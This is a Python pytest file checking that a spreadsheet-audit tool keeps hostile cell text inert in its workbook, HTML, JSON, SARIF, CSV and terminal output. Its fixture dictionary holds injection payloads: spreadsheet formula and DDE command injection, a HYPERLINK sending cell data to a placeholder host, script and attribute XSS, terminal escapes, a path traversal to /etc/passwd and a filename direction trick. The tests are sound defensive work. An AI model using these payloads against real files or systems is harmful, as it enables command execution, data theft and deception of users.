"""Text of a file never becomes a formula, markup, a terminal escape or a path in anything that is written."""

from __future__ import annotations

import csv
import json
import os
import shutil
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from lxml import html as markup

import lkjip_calc as lk
from lkjip_calc.app.cli import main
from lkjip_calc.reports.html_report import to_html
from lkjip_calc.reports.sarif_report import to_sarif

TEXTS = {
    "formula": '=HYPERLINK("http://lkjip.invalid/?x="&A1,"klik")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dde": "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": "\" onmouseover=\"alert(1)\" x='",
    "escape": "\x1b]0;judul\x07\x1b[31mmerah\x9b0m",
    "path": "../../../../etc/passwd",
    "markdown": "[klik](javascript:alert(1)) ![x](http://lkjip.invalid/x.png)",
    "direction": "\u202exslx.exe\u2066",
    "null": "a\x00b",
}  # fmt: skip


@pytest.fixture(params=TEXTS)
def wrong(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    """A workbook with a wrong sum whose labels, title and sheet name carry a hostile text."""
    text = TEXTS[request.param]
    path = tmp_path / "jahat.xlsx"
    name = "".join(c for c in text if c not in "[]:*?/\\'\x00\x1b\x07\x9b")[:28] or "LRA"
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet(name)
        sheet.write_string(0, 0, text)
        for r, (label, amount) in enumerate([("Belanja " + text, 100), (text, 200), ("Jumlah " + text, 390)], 2):
            sheet.write_string(r, 0, label)
            sheet.write_number(r, 1, amount)
        sheet.write_row(1, 0, ["Uraian", "Anggaran"])
    return path


@pytest.fixture
def result(wrong: Path) -> lk.Result:
    """Its check, which has a finding."""
    found = lk.check(wrong)
    assert len(found.findings) == 1
    return found


def workbook_texts(path: Path) -> list[str]:
    """The formulas of a workbook and the targets of its links."""
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    formulas = [str(cell.value) for cell in cells if cell.data_type == "f"]
    links = [cell.hyperlink.target or "" for cell in cells if cell.hyperlink]
    return formulas + links


def test_no_formula_and_no_link_in_the_workbooks(result: lk.Result, tmp_path: Path) -> None:
    lk.annotate(result, tmp_path / "bertanda.xlsx")
    lk.summarise(result, tmp_path / "ringkasan.xlsx")
    for name in ("bertanda", "ringkasan"):
        for text in workbook_texts(tmp_path / f"{name}.xlsx"):
            assert "lkjip.invalid" not in text
            assert "DDE" not in text
            assert "cmd" not in text
            assert "passwd" not in text
        with zipfile.ZipFile(tmp_path / f"{name}.xlsx") as package:
            assert not [part for part in package.namelist() if "externalLink" in part or ".." in part]


def test_no_markup_in_the_html(result: lk.Result) -> None:
    page = to_html(result)
    tree = markup.document_fromstring(page)
    assert list(tree.iter("script", "img", "iframe", "object")) == []
    for element in tree.iter():
        assert not [name for name in element.attrib if name.lower().startswith("on")]
        for target in ("href", "src"):
            assert "javascript" not in element.get(target, "")
            assert "lkjip.invalid" not in element.get(target, "")
    assert "\x1b" not in page
    assert "\x00" not in page


def test_json_and_sarif_keep_the_text_as_text(result: lk.Result, wrong: Path) -> None:
    for document in (result.to_json(), to_sarif(result)):
        told = json.dumps(document)
        assert "\x1b" not in told
        assert json.loads(told) == document
    locations = to_sarif(result)["runs"][0]["results"][0]["locations"]
    assert "passwd" not in locations[0]["physicalLocation"]["artifactLocation"]["uri"]


def test_the_terminal_gets_no_control_characters(wrong: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["check", str(wrong), "--no-annotate"]) == 1
    main(["summary", str(wrong)])
    main(["compare", str(wrong), str(wrong)])
    captured = capsys.readouterr()
    assert captured.out
    for character in captured.out + captured.err:
        assert character == "\n" or not (ord(character) < 32 or 127 <= ord(character) < 160), hex(ord(character))
        assert character not in "\u202e\u2066"


def test_the_tables_of_a_batch_hold_nothing_that_a_spreadsheet_runs(wrong: Path, tmp_path: Path) -> None:
    assert main(["batch", str(wrong.parent), "--output", str(tmp_path / "hasil")]) == 1
    with (tmp_path / "hasil" / "temuan.csv").open(encoding="utf-8-sig", newline="") as source:
        rows = list(csv.reader(source))
    assert len(rows) == 2
    for cell in rows[1]:
        assert cell[:1] not in ("=", "+", "@", "\t", "\r", "-")
        assert not any(ord(character) < 32 for character in cell)


def test_nothing_is_written_outside_the_folder_of_results(wrong: Path, tmp_path: Path) -> None:
    before = set(tmp_path.rglob("*"))
    main(["check", str(wrong), "--output", str(tmp_path / "hasil"), "--html", str(tmp_path / "hasil" / "a.html")])
    written = set(tmp_path.rglob("*")) - before
    assert {path.relative_to(tmp_path).parts[0] for path in written} == {"hasil"}


@pytest.mark.skipif(sys.platform != "linux", reason="only here a file may have any bytes for a name")
@pytest.mark.parametrize("name", [b"x\xff\xfe.xlsx", b"a\n\x1b[31m.xlsx"])
def test_a_name_that_is_no_text_or_speaks_to_a_terminal_stops_no_writer(
    name: bytes, tmp_path: Path, workbooks: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    book = tmp_path / os.fsdecode(name)
    shutil.copy(workbooks / "lkjip-kesbangpol-2022.xlsx", book)
    other = workbooks / "lkjip-kesbangpol-2022-koreksi.xlsx"
    out = {kind: str(tmp_path / f"a.{kind}") for kind in ("json", "html", "sarif", "toml", "xlsx")}
    reports = ["--json", out["json"], "--html", out["html"], "--sarif", out["sarif"], "--write-baseline", out["toml"]]
    for status, arguments in (
        (1, ["check", str(book), "--output", str(tmp_path / "hasil"), *reports]),
        (0, ["summary", str(book), "--output", out["xlsx"]]),
        (1, ["compare", str(book), str(other), "--output", out["xlsx"]]),
        (0, ["layout", str(book)]),
        (2, ["check", str(book) + ".tiada"]),
    ):
        assert main(arguments) == status
        printed = "".join(capsys.readouterr())
        assert "\x1b" not in printed
        assert "\n\n[31m" not in printed
    assert json.loads(Path(out["json"]).read_text(encoding="utf-8"))["workbooks"][0]["path"] == str(book)
    assert len(list((tmp_path / "hasil").iterdir())) == 1
